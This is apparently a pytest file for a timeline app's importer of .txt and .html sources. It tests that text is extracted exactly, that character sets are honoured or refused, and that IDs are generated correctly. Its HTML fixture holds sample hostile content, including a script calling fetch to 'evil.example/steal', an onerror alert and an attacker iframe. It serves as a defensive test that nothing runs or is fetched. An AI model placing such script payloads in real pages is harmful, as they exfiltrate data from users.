"""A .txt or .html file brought in as a source: text exact, nothing run or fetched."""

from __future__ import annotations

import codecs
import socket
import subprocess
import sys
import textwrap
import urllib.request
from pathlib import Path

import pytest

from timeline_app.core.dates.partial import parse_iso
from timeline_app.core.editing.ids import new_actor_id, new_source_id
from timeline_app.core.sources.html_text import html_to_text, title_of
from timeline_app.core.sources.text_files import SourceFileError, read_source_file

ARTICLE_HTML = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Al-Sisi renews support for Haftar &ndash; Egypt Watch</title>
<link rel="stylesheet" href="https://cdn.example.com/site.css">
<script src="https://cdn.example.com/tracker.js"></script>
<script>document.title = "pwned"; fetch("https://evil.example/steal")</script>
<style>p { color: red }</style></head>
<body><nav><a href="/">Home</a> | <a href="/world">World</a></nav>
<article>
  <h1>Al-Sisi renews support for Libyan General Khalifa Haftar</h1>
  <p>The head of General Intelligence Services (GIS) in Egypt, Abbas Kamel, conveyed,
     on&nbsp;Saturday, to the commander of the eastern Libyan forces a message of
     support.</p>
  <img src="https://evil.example/pixel.gif" onerror="alert(1)">
  <p>This message was delivered during an unannounced visit<br>to Benghazi &amp; Tripoli
     &#8212; &lt;reports&gt; say.</p>
  <iframe src="https://evil.example/frame"></iframe>
</article>
<script>alert("never")</script>
</body></html>
"""


def test_html_keeps_the_reader_text_in_paragraphs() -> None:
    text = html_to_text(ARTICLE_HTML)
    assert text == (
        "Al-Sisi renews support for Libyan General Khalifa Haftar\n\n"
        "The head of General Intelligence Services (GIS) in Egypt, Abbas Kamel, conveyed, "
        "on\u00a0Saturday, to the commander of the eastern Libyan forces a message of "
        "support.\n\n"
        "This message was delivered during an unannounced visit\nto Benghazi & Tripoli "
        "\u2014 <reports> say."
    )
    assert title_of(ARTICLE_HTML) == "Al-Sisi renews support for Haftar \u2013 Egypt Watch"


def test_html_file_runs_nothing_and_fetches_nothing(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    touched: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        touched.append(args)
        raise AssertionError("network access attempted")

    for name in ("create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    path = tmp_path / "article.html"
    path.write_text(ARTICLE_HTML, encoding="utf-8")
    imported = read_source_file(path)
    assert touched == []
    assert "pwned" not in imported.text and "alert" not in imported.text
    assert "evil.example" not in imported.text and "fetch" not in imported.text
    assert imported.text.startswith("Al-Sisi renews support")


def test_html_declared_charset_is_honoured(tmp_path: Path) -> None:
    path = tmp_path / "latin.htm"
    path.write_bytes('<meta charset="iso-8859-1"><p>Caf\u00e9 du Nil</p>'.encode("latin-1"))
    assert read_source_file(path).text == "Caf\u00e9 du Nil"


@pytest.mark.parametrize("declared", [
    "base64", "hex", "zlib", "rot13", "uu", "punycode", "idna", "unicode_escape",
    "raw_unicode_escape", "utf-7", "no-such-set"])
def test_html_declaring_what_is_no_web_character_set_is_refused(
        tmp_path: Path, declared: str) -> None:
    """Python looks up codecs that are no character set (base64 raised LookupError,
    punycode UnicodeError, unicode_escape rewrote backslashes): a page declaring one is
    refused with what to do, never decoded so."""
    path = tmp_path / "odd.html"
    path.write_bytes(f'<meta charset="{declared}"><p>Caf\u00e9 \\u0041 du Nil</p>'.encode())
    with pytest.raises(SourceFileError, match=f"declares the character set '{declared}', "
                                              "which is unknown: save it as UTF-8"):
        read_source_file(path)


@pytest.mark.parametrize(("declared", "encoding", "text"), [
    ("windows-1256", "cp1256", "\u0637\u0631\u0627\u0628\u0644\u0633 \u2013 Tripoli"),
    ("ISO-8859-6", "iso8859-6", "\u0637\u0631\u0627\u0628\u0644\u0633"),
    ("windows-874", "cp874", "\u0e01\u0e23\u0e38\u0e07\u0e40\u0e17\u0e1e"),
    ("x-mac-cyrillic", "mac-cyrillic", "\u041c\u043e\u0441\u043a\u0432\u0430"),
    ("Shift_JIS", "shift-jis", "\u6771\u4eac"),
])
def test_html_in_the_webs_character_sets_is_read(tmp_path: Path, declared: str,
                                                 encoding: str, text: str) -> None:
    path = tmp_path / "page.html"
    path.write_bytes(f'<meta charset="{declared}"><p>{text}</p>'.encode(encoding))
    assert read_source_file(path).text == text


def test_the_web_character_sets_are_named_as_python_names_them() -> None:
    """The list is of names, so that nothing is looked up on import; each must be the
    name Python gives the codec, or a page declaring it would be refused."""
    from timeline_app.core.sources.text_files import _WEB_CHARSETS

    assert all(codecs.lookup(name).name == name for name in _WEB_CHARSETS)
    assert len(_WEB_CHARSETS) == 45


def test_without_the_east_asian_codecs_a_page_in_one_is_refused(tmp_path: Path) -> None:
    """The packaged program leaves the East Asian codecs out: the module must load
    without them (looking them up on import stopped the program from starting), and a
    page in one is refused with what to do, while other pages are read."""
    (tmp_path / "jp.html").write_bytes(
        '<meta charset="Shift_JIS"><p>\u6771\u4eac</p>'.encode("shift_jis"))
    (tmp_path / "ar.html").write_bytes(
        '<meta charset="windows-1256"><p>\u0637\u0631\u0627\u0628\u0644\u0633</p>'
        .encode("cp1256"))
    script = textwrap.dedent(f"""
        import codecs
        real = codecs.lookup
        def lookup(name):
            if any(k in name.lower() for k in ("jis", "gb", "big5", "euc", "2022")):
                raise LookupError(name)
            return real(name)
        codecs.lookup = lookup
        from timeline_app.core.sources.text_files import SourceFileError, read_source_file
        print(read_source_file({str(tmp_path / "ar.html")!r}).text)
        try:
            read_source_file({str(tmp_path / "jp.html")!r})
        except SourceFileError as exc:
            print(exc)
    """)
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         encoding="utf-8", timeout=60, check=True).stdout.splitlines()
    assert out == ["\u0637\u0631\u0627\u0628\u0644\u0633",
                   "jp.html declares the character set 'Shift_JIS', which is unknown: save "
                   "it as UTF-8 and open it again"]


def test_text_file_utf8_with_bom_and_crlf(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_bytes(codecs.BOM_UTF8 + "Al-Sis\u00ed\r\nline two".encode())
    assert read_source_file(path).text == "Al-Sis\u00ed\nline two"
    path.write_bytes("UTF-16 text".encode("utf-16"))  # with its byte-order mark
    assert read_source_file(path).text == "UTF-16 text"


def test_text_file_not_utf8_is_refused_with_where_and_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "old.txt"
    path.write_bytes(b"first line\nCaf\xe9")
    with pytest.raises(SourceFileError, match=r"byte 14 \(line 2\).*Save it as UTF-8"):
        read_source_file(path)
    with pytest.raises(SourceFileError, match="cannot be read"):
        read_source_file(tmp_path / "missing.txt")


def test_new_ids_are_readable_and_unique() -> None:
    date = parse_iso("2020-12-22")
    assert new_source_id("Egypt Watch", date, set()) == "egypt-watch-2020-12-22"
    taken = {"egypt-watch-2020-12-22"}
    assert new_source_id("Egypt Watch", date, taken) == "egypt-watch-2020-12-22-2"
    assert new_source_id("", None, set()) == "source"
    assert new_source_id("Al-Jazeera Ş", parse_iso("2020-06~"), set()) == "al-jazeera-ş-2020-06"
    assert new_source_id("الوسط", None, set()) == "الوسط"
    assert new_actor_id("Libyan National Army (LNA)", set()) == "libyan-national-army-lna"
    assert new_actor_id("???", {"actor"}) == "actor-2"
